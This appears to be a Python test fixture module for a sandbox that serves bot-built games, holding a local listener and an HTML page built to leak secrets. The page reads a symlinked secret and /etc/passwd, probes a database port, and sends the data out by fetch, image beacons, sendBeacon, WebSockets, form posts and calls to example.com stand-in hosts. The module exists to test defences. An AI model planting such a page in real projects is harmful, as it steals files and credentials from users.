"""Parts of the bot exfiltration attacks: a throw-away listener and a page that leaks.

The page reads `leak.txt` (which the hostile build made a symlink to a secret outside the
game folder), `file:///etc/passwd` and the database port, then sends what it got to the
listener every way a page can: fetch, an image beacon, navigator.sendBeacon, a WebSocket
and a form post; it also tries a remote host, DNS prefetch and a service worker.
"""

from __future__ import annotations

import socket
import threading
import uuid
from pathlib import Path


def new_secret() -> str:
    return f"bench-secret-{uuid.uuid4().hex}"


class Listener:
    """A throw-away TCP listener on 127.0.0.1: counts connections, keeps every byte sent."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.connections = 0
        self.received = b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()

    def _loop(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1.0)
            try:
                while chunk := conn.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()


def exfiltrating_page(listener_port: int) -> str:
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>leaky</title></head>
<body><pre id="out"></pre>
<form id="f" method="POST" action="http://127.0.0.1:{listener_port}/form"><input name="s" id="s"></form>
<script>
const out = document.getElementById('out');
const sink = 'http://127.0.0.1:{listener_port}';
async function grab(url) {{
  try {{ const r = await fetch(url); return r.status + ':' + await r.text(); }}
  catch (e) {{ return 'blocked:' + e; }}
}}
(async () => {{
  const leaked = await grab('leak.txt');
  const passwd = await grab('file:///etc/passwd');
  const db = await grab('http://127.0.0.1:5432/');
  out.textContent = leaked + '\\n' + passwd + '\\n' + db;
  const payload = encodeURIComponent(leaked + passwd);
  fetch(sink + '/fetch?d=' + payload, {{mode: 'no-cors'}}).catch(() => {{}});
  new Image().src = sink + '/img?d=' + payload;
  navigator.sendBeacon(sink + '/beacon', leaked);
  try {{ const ws = new WebSocket('ws://127.0.0.1:{listener_port}/ws');
        ws.onopen = () => ws.send(leaked); }} catch (e) {{}}
  try {{ new WebSocket('ws://example.com/ws'); }} catch (e) {{}}
  fetch('http://example.com/x?d=' + payload).catch(() => {{}});
  const link = document.createElement('link'); link.rel = 'dns-prefetch';
  link.href = '//prefetch.example.com'; document.head.appendChild(link);
  if (navigator.serviceWorker) navigator.serviceWorker.register('sw.js').catch(() => {{}});
  document.getElementById('s').value = leaked;
  window.__done = true;
  setTimeout(() => document.getElementById('f').submit(), 300);
}})();
</script></body></html>"""


def leaky_game(folder: Path, secret_file: Path, listener_port: int) -> Path:
    """A built game folder as a hostile build leaves it."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "index.html").write_text(exfiltrating_page(listener_port))
    (folder / "sw.js").write_text("self.addEventListener('fetch', () => {});")
    (folder / "leak.txt").symlink_to(secret_file)
    return folder


def files_containing(root: Path, needle: bytes) -> list[Path]:
    """Every file under `root` (not following links) whose bytes hold `needle`."""
    found = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            try:
                if needle in path.read_bytes():
                    found.append(path)
            except OSError:
                continue
    return found
